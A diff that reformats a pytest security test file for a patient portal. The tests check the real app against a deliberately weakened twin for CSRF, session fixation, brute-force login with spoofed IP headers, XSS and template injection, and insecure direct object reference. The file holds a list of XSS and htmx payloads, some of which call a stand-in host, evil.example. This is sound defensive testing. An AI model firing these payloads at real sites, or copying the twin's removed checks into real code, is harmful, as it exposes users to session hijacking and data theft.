@@ -23,10 +23,19 @@ from tests.factories.announcements import an_announcement
 
 twin = pytest.mark.parametrize("weak", [False, True], ids=["the portal", "its twin"])
 PAYLOADS = [
-    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)",
-    '<a data-hx-post="/sign_in/out" data-hx-trigger="load">x</a>', '<div hx-get="//evil.example" hx-trigger="load">',
-    "<form action=//evil.example><input name=a autofocus>", '<base href="//evil.example/">', "{{ 7*7 }}", "{% raw %}",
-    '<meta http-equiv="refresh" content="0;url=//evil.example">', "' onmouseover='alert(1)", "</title><script>1</script>",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    '<a data-hx-post="/sign_in/out" data-hx-trigger="load">x</a>',
+    '<div hx-get="//evil.example" hx-trigger="load">',
+    "<form action=//evil.example><input name=a autofocus>",
+    '<base href="//evil.example/">',
+    "{{ 7*7 }}",
+    "{% raw %}",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "' onmouseover='alert(1)",
+    "</title><script>1</script>",
 ]
 
 
@@ -35,7 +44,11 @@ def test_a_forged_post_without_token(app, browser, patient, weak, monkeypatch):
     """S1. The twin checks no token."""
     made = browser(patient)
     page = made.get("/me/address_book/contacts/add")
-    fields = dict(page.form("main form").form_values()) | {"name": "Mallory", "relationship": "-", "phone": "800-555-0134"}
+    fields = dict(page.form("main form").form_values()) | {
+        "name": "Mallory",
+        "relationship": "-",
+        "phone": "800-555-0134",
+    }
     fields.pop("csrf_token")
     if weak:
         app.before_request_funcs[None].remove(_csrf_check(app))
@@ -54,7 +67,11 @@ def test_a_post_from_another_site_with_a_stolen_token(app, browser, patient, wea
     """S1. The twin does not look where a post comes from."""
     made = browser(patient)
     page = made.get("/me/address_book/contacts/add")
-    fields = dict(page.form("main form").form_values()) | {"name": "Mallory", "relationship": "-", "phone": "800-555-0134"}
+    fields = dict(page.form("main form").form_values()) | {
+        "name": "Mallory",
+        "relationship": "-",
+        "phone": "800-555-0134",
+    }
     if weak:
         app.before_request_funcs[None].remove(security_headers.refuse_foreign_posts)
     answer = made._send(
@@ -86,7 +103,8 @@ def test_a_planted_cookie(browser, patient, weak, monkeypatch):
         monkeypatch.setattr(actions.secrets, "random_token", lambda: planted)
     page = victim.get("/sign_in/")
     victim._send(
-        "post", "/sign_in/",
+        "post",
+        "/sign_in/",
         data=dict(page.form().form_values()) | {"username": patient.username, "password": patient.password},
     )
     foe.client.set_cookie("sid", planted)
@@ -121,8 +139,14 @@ def test_a_thousand_guesses(browser, patient, weak, monkeypatch):
     form = dict(foe.get("/sign_in/").form().form_values())
     looked_at = 0
     for number in range(40):
-        fields = form | {"username": patient.username.swapcase() + " " * (number % 3), "password": f"guess number {number}"}
-        looked_at += foe._send("post", "/sign_in/", data=fields, headers={"X-Forwarded-For": f"10.0.0.{number}"}).status_code == 422
+        fields = form | {
+            "username": patient.username.swapcase() + " " * (number % 3),
+            "password": f"guess number {number}",
+        }
+        looked_at += (
+            foe._send("post", "/sign_in/", data=fields, headers={"X-Forwarded-For": f"10.0.0.{number}"}).status_code
+            == 422
+        )
     assert (looked_at > 10) == weak
 
 
@@ -160,8 +184,12 @@ def test_words_that_want_to_be_markup(browser, patient, office, administrator, w
         monkeypatch.setattr(templates.environment("en"), "autoescape", False)
         templates.environment("en").cache.clear()
     try:
-        seen = [browser(patient)._send("get", url).get_data(as_text=True) for url in ("/me/", "/me/address_book/contacts/")]
-        seen.append(browser(administrator)._send("get", f"/office/{office.public_id}/announcements/").get_data(as_text=True))
+        seen = [
+            browser(patient)._send("get", url).get_data(as_text=True) for url in ("/me/", "/me/address_book/contacts/")
+        ]
+        seen.append(
+            browser(administrator)._send("get", f"/office/{office.public_id}/announcements/").get_data(as_text=True)
+        )
     finally:
         templates.environment("en").cache.clear()
     raw = [payload for payload in PAYLOADS if "<" in payload]
@@ -174,9 +202,7 @@ def test_an_owner_named_in_the_request(browser, patient, stranger, weak, monkeyp
     """Z2, Z4. The twin believes whose record a request says it is about."""
     entry = address_book.a_contact(patient.person_id, name="Ivy Castellane")
     if weak:
-        monkeypatch.setattr(
-            views, "viewer", lambda: replace(access.viewer(), person_id=int(request.args["person_id"]))
-        )
+        monkeypatch.setattr(views, "viewer", lambda: replace(access.viewer(), person_id=int(request.args["person_id"])))
     page = browser(stranger)._send(
         "get", f"/me/address_book/contacts/{entry}/edit?person_id={patient.person_id}", headers={"X-Person": "1"}
     )
